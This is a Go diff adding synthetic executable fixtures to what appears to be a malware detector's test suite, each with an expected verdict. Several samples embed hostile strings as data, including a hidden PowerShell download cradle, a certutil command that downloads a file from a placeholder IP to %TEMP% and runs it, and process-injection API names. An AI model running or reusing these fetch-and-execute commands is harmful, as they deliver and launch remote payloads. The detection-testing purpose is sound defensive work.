@@ -24,6 +24,18 @@ func imports(extra map[string][]string) map[string][]string {
 	return out
 }
 
+// utf16z writes strings as NUL-terminated UTF-16LE.
+func utf16z(ss ...string) []byte {
+	var out []byte
+	for _, s := range ss {
+		for _, c := range s {
+			out = append(out, byte(c), byte(c>>8))
+		}
+		out = append(out, 0, 0)
+	}
+	return out
+}
+
 // xorBytes is b XOR-ed with key.
 func xorBytes(b []byte, key byte) []byte {
 	out := make([]byte, len(b))
@@ -118,7 +130,21 @@ func executableSamples2() []Sample {
 				{Type: "System.Activator", Name: "CreateInstance", Ret: "object", Params: []string{"System.Type"}},
 			}, Resources: []ZipEntry{{Name: "Report.payload.bin", Data: xorBytes(tinyPE(), 0x21)}}, UserStrings: []string{"Report.payload.bin"}}.Bytes()},
 
+		{Name: "native-cmdline.exe", Want: verdict.Malicious, Why: "ShellExecuteW with a hidden PowerShell download cradle held as a UTF-16 string",
+			Data: PE{Sections: append(stdSections(), PESection{Name: ".rdata2", Data: utf16z("powershell.exe", "-nop -w hidden -c \""+cradle+"\""), Flags: SCNData | SCNRead}),
+				Imports: imports(map[string][]string{"shell32.dll": {"ShellExecuteW"}})}.Bytes()},
+		{Name: "native-certutil.exe", Want: verdict.Malicious, Why: "WinExec of cmd /c certutil -urlcache then start, as an ASCII string",
+			Data: PE{Sections: append(stdSections(), PESection{Name: ".rdata2", Data: []byte("\x00cmd.exe /c certutil -urlcache -split -f http://198.51.100.7/a.txt %TEMP%\\a.exe && start %TEMP%\\a.exe\x00"), Flags: SCNData | SCNRead}),
+				Imports: imports(map[string][]string{"kernel32.dll": {"WinExec"}})}.Bytes()},
+		{Name: "dotnet-dinvoke.exe", Want: verdict.HighlySuspicious, Why: "GetProcAddress P/Invoke + GetDelegateForFunctionPointer over injection API names held as strings (D/Invoke)",
+			Data: DotNet{Name: "Sync.exe", PInvokes: []string{"kernel32.dll!LoadLibraryA", "kernel32.dll!GetProcAddress"},
+				Members:     []DNMember{{Type: "System.Runtime.InteropServices.Marshal", Name: "GetDelegateForFunctionPointer", Ret: "System.Delegate", Params: []string{"IntPtr", "System.Type"}}},
+				UserStrings: []string{"kernel32.dll", "OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"}}.Bytes()},
+
 		// Clean look-alikes.
+		{Name: "clean-native-cmdline.exe", Want: verdict.Clean, Why: "installer helper with ordinary command lines and an update URL",
+			Data: PE{Sections: append(stdSections(), PESection{Name: ".rdata2", Data: utf16z("cmd.exe /c echo Installing && copy /y app.ini \"%APPDATA%\\Example\\\"", "https://www.example.org/update.json", "notepad.exe readme.txt"), Flags: SCNData | SCNRead}),
+				Imports: imports(map[string][]string{"kernel32.dll": {"CreateProcessW"}, "shell32.dll": {"ShellExecuteW"}})}.Bytes()},
 		{Name: "clean-winhttp-client.exe", Want: verdict.Clean, Why: "WinHTTP client that starts nothing (checks for updates)",
 			Data: PE{Sections: stdSections(), Imports: imports(map[string][]string{"winhttp.dll": {"WinHttpOpen", "WinHttpConnect", "WinHttpOpenRequest", "WinHttpSendRequest", "WinHttpReceiveResponse", "WinHttpReadData", "WinHttpCloseHandle"}})}.Bytes()},
 		{Name: "clean-setup-launcher.exe", Want: verdict.Clean, Why: "installer that starts processes and writes the registry, no network, plain overlay",
